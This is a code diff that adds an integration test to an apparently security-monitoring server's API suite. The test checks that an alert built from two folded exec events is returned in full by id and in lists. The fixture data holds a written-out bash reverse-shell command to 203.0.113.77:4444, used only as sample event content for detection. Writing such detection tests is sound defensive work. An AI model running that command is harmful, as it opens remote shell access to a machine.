@@ -641,6 +641,53 @@ describe('answers keep every field (they are written with their schemas, which d
     }
   });
 
+  it('gives an alert back as it is stored (events, process and ancestry, host with CMDB entry and reported name, triage, comments, revision), by id and in lists', async () => {
+    const identity = await server.enrollAgent();
+    const prefix = `whole-alert-${Date.now()}`;
+    const shell = `bash -i >& /dev/tcp/203.0.113.77/4444 0>&1`;
+    // Two reverse shells of one process: the second folds into the alert of the first (count 2).
+    const events = makeEvents(2, {
+      action: 'exec',
+      prefix,
+      host: `${hostname}-claimed`,
+      extra: (event) => {
+        const args = ['bash', '-c', shell];
+        event['process'] = { ...event['process'], name: 'bash', executable: '/usr/bin/bash', args, args_count: args.length, command_line: args.join(' ') };
+      },
+    });
+    await deliver(identity, events);
+    const listedNow = async () => ((await server.ok('GET', '/api/v1/alerts', { query: { since: '10m', host: identity.agentId, limit: 1000 } })) as { alerts: AnyEvent[] }).alerts;
+    const raised = await waitUntil('the folded alert', async () => (await listedNow()).find((a) => a['count'] === 2 && JSON.stringify(a['events']).includes(prefix)));
+    const id = raised['id'] as string;
+    const analyst = await apiToken('analyst', 'whole-alert');
+    await server.ok('PATCH', `/api/v1/alerts/${id}`, { token: analyst.token, body: { status: 'acknowledged', assignee: 'ana' } });
+    await server.ok('POST', `/api/v1/alerts/${id}/comments`, { token: analyst.token, body: { text: 'é\u2028"<b>' } });
+    const byId = (await server.ok('GET', `/api/v1/alerts/${id}`)) as AnyEvent;
+    const listed = (await listedNow()).find((a) => a['id'] === id)!;
+    const db = new Database(path.join(server.dataDir, 'hades.db'), { readonly: true });
+    let stored: AnyEvent;
+    let comments: AnyEvent[];
+    try {
+      const row = db.prepare<[string], AnyEvent>('SELECT doc, status, assignee, count, last_seen, revision FROM alerts WHERE id = ?').get(id)!;
+      // The document as raised (and folded into), its triage state and count from their columns.
+      stored = { ...JSON.parse(row['doc']), status: row['status'], assignee: row['assignee'], count: row['count'], last_seen: new Date(row['last_seen']).toISOString(), revision: row['revision'] };
+      comments = db.prepare<[string], AnyEvent>('SELECT id, time, author, text FROM alert_comments WHERE alert_id = ? ORDER BY id').all(id).map((c) => ({ ...c, time: new Date(c['time']).toISOString() }));
+    } finally {
+      db.close();
+    }
+    // What this test is about is there to be compared.
+    assert.equal(stored['events'].length, 2);
+    assert.ok(stored['process'].ancestors.length > 0, 'the ancestry');
+    assert.equal(typeof stored['host'].cmdb?.owner, 'string', 'the CMDB entry');
+    assert.equal(stored['host'].reported_name, `${hostname}-claimed`);
+    assert.deepEqual([stored['status'], stored['assignee'], stored['revision'], comments.length], ['acknowledged', 'ana', 2, 1]);
+    const compare = (served: AnyEvent, expected: AnyEvent, how: string) => {
+      for (const key of new Set([...Object.keys(expected), ...Object.keys(served)])) assert.deepEqual(served[key], expected[key], `${how}: ${key}`);
+    };
+    compare(byId, { ...stored, comments }, `GET /api/v1/alerts/${id}`);
+    compare(listed, stored, 'GET /api/v1/alerts');
+  });
+
   it('answers every field stored of API tokens and audit entries, and reads agents and tasks as lists give them', async () => {
     const identity = await server.enrollAgent();
     const lasting = (await server.ok('POST', '/api/v1/tokens/api', { body: { name: 'every-field', role: 'analyst', ttl: '1d' } })) as { id: string; token: string };
